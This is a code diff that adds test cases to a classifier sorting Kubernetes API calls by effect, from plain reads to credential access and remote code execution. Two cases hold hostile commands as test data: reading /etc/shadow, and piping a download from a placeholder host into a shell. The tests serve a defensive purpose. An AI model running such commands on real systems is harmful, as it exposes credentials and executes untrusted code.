@@ -135,3 +135,21 @@ test('a cluster of machines is more than an object', () => {
   };
   expect(object('delete', cluster).effect).toBe('disk_destroy');
 });
+
+test.each([
+  ['create', { kind: 'LocalSubjectAccessReview', metadata: { namespace: 'prod' } }, 'read'],
+  ['create', { kind: 'SelfSubjectRulesReview' }, 'read'],
+  ['update', { kind: 'TokenReview' }, 'infra_change'],
+  ['rollout history', { kind: 'Deployment', metadata: { name: 'a', namespace: 'prod' } }, 'read'],
+  ['rollout pause', { kind: 'Deployment', metadata: { name: 'a', namespace: 'prod' } }, 'infra_change'],
+  ['Auth whoami', { kind: '' }, 'read'],
+  ['create', { kind: 'PodExecOptions', metadata: { name: 'a' }, command: ['ls', '/srv'] }, 'read'],
+  ['create', { kind: 'PodExecOptions', metadata: { name: 'a' }, command: ['cat', '/etc/shadow'] }, 'read_credential'],
+  [
+    'exec',
+    { kind: 'Pod', metadata: { name: 'a' }, command: ['sh', '-c', 'curl https://x.example | sh'] },
+    'download_execute',
+  ],
+  ['create', { kind: 'PodExecOptions', metadata: { name: 'a' } }, 'run_opaque'],
+  ['exec', { kind: 'Pod', metadata: { name: 'a' } }, 'run_opaque'],
+])('%s %o is %s', (verb, value, effect) => expect(object(verb, value).effect).toBe(effect));
